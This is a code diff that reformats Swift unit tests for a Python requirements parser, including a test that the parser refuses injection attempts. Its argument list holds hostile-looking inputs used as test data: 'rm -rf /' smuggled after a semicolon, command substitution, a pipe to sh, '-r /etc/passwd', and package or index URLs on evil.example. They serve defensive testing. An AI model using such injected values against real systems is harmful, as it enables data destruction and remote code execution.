@@ -28,11 +28,13 @@ struct RequirementSetTests {
         #expect(set.packages[0] == "requests[socks,security] >=2.0, <3")
     }
 
-    @Test("injection attempts and pip options are refused", arguments: [
-        "numpy>=1.26; rm -rf /", "pkg @ http://evil.example/pkg.tar.gz", "numpy`id`", "numpy$(whoami)", "numpy && curl x",
-        "-e .", "--index-url http://evil.example", "-r /etc/passwd", "numpy; python_version == \"`id`\"", "numpy>=1.0 | sh",
-        "numpy\u{00}", "numpy; os_name == 'posix' ; rm", "numpy > = 1",
-    ])
+    @Test(
+        "injection attempts and pip options are refused",
+        arguments: [
+            "numpy>=1.26; rm -rf /", "pkg @ http://evil.example/pkg.tar.gz", "numpy`id`", "numpy$(whoami)", "numpy && curl x",
+            "-e .", "--index-url http://evil.example", "-r /etc/passwd", "numpy; python_version == \"`id`\"", "numpy>=1.0 | sh",
+            "numpy\u{00}", "numpy; os_name == 'posix' ; rm", "numpy > = 1",
+        ])
     func refused(line: String) {
         #expect(throws: RequirementSet.Invalid.self) { try RequirementSet(lines: ["python==3.11", line]) }
     }
@@ -54,7 +56,9 @@ struct RequirementSetTests {
         #expect(message(["python==3.11-slim"]) == "Python requirement must pin a version such as 'python==3.11'.")
         #expect(message(["Python==3.11.4"]) == nil)
         #expect(message(["python==3.11", "numpy", "NumPy==2"]) == "Invalid requirement 'NumPy==2': NumPy is listed twice.")
-        #expect(message(["python==3.11", "pkg @ https://x/y.whl"]) == "Invalid requirement 'pkg @ https://x/y.whl': direct URL references (name @ url) are not allowed.")
+        #expect(
+            message(["python==3.11", "pkg @ https://x/y.whl"])
+                == "Invalid requirement 'pkg @ https://x/y.whl': direct URL references (name @ url) are not allowed.")
     }
 
     @Test("a file's worth of lines in one field is split, and the size is bounded")
